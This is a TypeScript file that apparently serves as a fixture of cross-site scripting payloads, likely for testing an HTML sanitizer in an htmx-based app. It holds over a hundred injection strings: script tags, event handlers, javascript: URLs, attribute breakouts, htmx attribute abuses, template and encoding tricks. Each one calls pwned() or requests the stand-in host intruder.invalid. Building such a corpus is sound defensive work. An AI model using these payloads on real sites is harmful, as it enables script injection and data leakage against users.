// A hundred ways to break out of a text: each would call pwned() or ask a host that must never be asked.

const code = 'pwned()';
const host = 'http://intruder.invalid';

const elements = [
  `<script>${code}</script>`, `<ScRiPt >${code}</sCrIpT>`, `<script src="${host}/a.js"></script>`, `<script/x>${code}</script>`, `<<script>${code}//<</script>`, `<script>${code}`,
  `<img src=x onerror=${code}>`, `<img src="${host}/pixel.png">`, `<img src=x:x onerror=${code} />`, `<img/src/onerror=${code}>`, `<image src=x onerror=${code}>`,
  `<svg onload=${code}>`, `<svg><script>${code}</script></svg>`, `<svg><animate onbegin=${code} attributeName=x dur=1s>`, `<svg><use href="${host}/x.svg#y"/></svg>`, `<svg><a xlink:href="javascript:${code}"><text y=20>x</text></a></svg>`,
  `<math><mi xlink:href="javascript:${code}">x</mi></math>`, `<math href="javascript:${code}">x</math>`, `<iframe src="javascript:${code}"></iframe>`, `<iframe srcdoc="<script>parent.${code}</script>"></iframe>`, `<iframe src="${host}"></iframe>`,
  `<object data="javascript:${code}"></object>`, `<object data="${host}/x.swf"></object>`, `<embed src="javascript:${code}">`, `<embed src="${host}/x">`, `<base href="${host}/">`, `<link rel=stylesheet href="${host}/x.css">`, `<link rel=prefetch href="${host}/p">`,
  `<meta http-equiv=refresh content="0;url=${host}">`, `<meta http-equiv=refresh content="0;url=javascript:${code}">`, `<style>@import "${host}/x.css";</style>`, `<style>body{background:url(${host}/x.png)}</style>`, `<div style="background:url(${host}/x.png)">x</div>`,
  `<body onload=${code}>`, `<input autofocus onfocus=${code}>`, `<select autofocus onfocus=${code}>`, `<textarea autofocus onfocus=${code}>`, `<keygen autofocus onfocus=${code}>`, `<details open ontoggle=${code}>`, `<video src=x onerror=${code}>`,
  `<video poster="${host}/p.png"></video>`, `<audio src=x onerror=${code}>`, `<video><source onerror=${code}></video>`, `<marquee onstart=${code}>x</marquee>`, `<form action="${host}"><input type=submit></form>`, `<form><button formaction="javascript:${code}">x</button></form>`,
  `<isindex action="javascript:${code}">`, `<table background="${host}/t.png"><tr><td>x`, `<template><script>${code}</script></template>`, `<noscript><p title="</noscript><img src=x onerror=${code}>">`, `<xmp><p title="</xmp><svg/onload=${code}>">`, `<title><img src=x onerror=${code}></title>`,
  `<a href="javascript:${code}">x</a>`, `<a href="jAvAsCrIpT:${code}">x</a>`, `<a href="java\tscript:${code}">x</a>`, `<a href="&#106;avascript:${code}">x</a>`, `<a href="data:text/html,<script>${code}</script>">x</a>`, `<a href="vbscript:${code}">x</a>`, `<dialog open><img src=x onerror=${code}></dialog>`,
];

const attributes = [
  `" onmouseover="${code}`, `" autofocus onfocus="${code}`, `' autofocus onfocus='${code}`, `"><script>${code}</script>`, `'><script>${code}</script>`, `"/><img src=x onerror=${code}>`, `" style="background:url(${host}/s.png)`, `" srcset="${host}/s.png 2x`,
  `x" hx-get="${host}" hx-trigger="load`, `" hx-on:load="${code}`, `"><img src="${host}/q.png`, `\`><script>${code}</script>`, `" formaction="javascript:${code}`, `&quot;><script>${code}</script>`, `&#34;&#62;<svg onload=${code}>`,
];

const htmx = [
  `<div hx-get="/projects" hx-trigger="load"></div>`, `<div data-hx-get="/projects" data-hx-trigger="load"></div>`, `<div hx-get="${host}" hx-trigger="load">x</div>`, `<div hx-on:htmx:after:process="${code}">x</div>`, `<div hx-on::load="${code}">x</div>`,
  `<button hx-post="/sign-out" hx-trigger="load">x</button>`, `<form hx-boost="true" action="${host}"><input name=x></form>`, `<div hx-vals='js:{a: ${code}}' hx-get="/projects" hx-trigger="load"></div>`, `<hx-partial hx-target="body" hx-swap="innerHTML"><h1>gone</h1></hx-partial>`,
  `<div hx-swap-oob="true" id="main">gone</div>`, `<div hx-sse:connect="${host}/stream">x</div>`, `<meta name="htmx-config" content='{"selfRequestsOnly":false}'>`, `<div hx-confirm="js:${code}" hx-get="/projects" hx-trigger="load">x</div>`,
];

const texts = [
  `</textarea><script>${code}</script>`, `</title><script>${code}</script>`, `</script><script>${code}</script>`, `</style><script>${code}</script>`, `--><script>${code}</script>`, `]]><script>${code}</script>`, `{{constructor.constructor('${code}')()}}`, `\${${code}}`, `#{${code}}`, `<%= ${code} %>`,
  `[x](javascript:${code})`, `![x](${host}/md.png)`, `[x]: ${host} "title"`, `<javascript:${code}>`, `+ADw-script+AD4-${code}+ADw-/script+AD4-`, `\u2028${code}\u2029`, `\u202e${code}`, `<scr\u0000ipt>${code}</script>`, `%3Cscript%3E${code}%3C/script%3E`, `\\u003cscript\\u003e${code}\\u003c/script\\u003e`,
];

/** A hundred and more, without repetition. */
export const payloads: readonly string[] = [...new Set([...elements, ...attributes, ...htmx, ...texts])];
export const forbiddenHost = 'intruder.invalid';
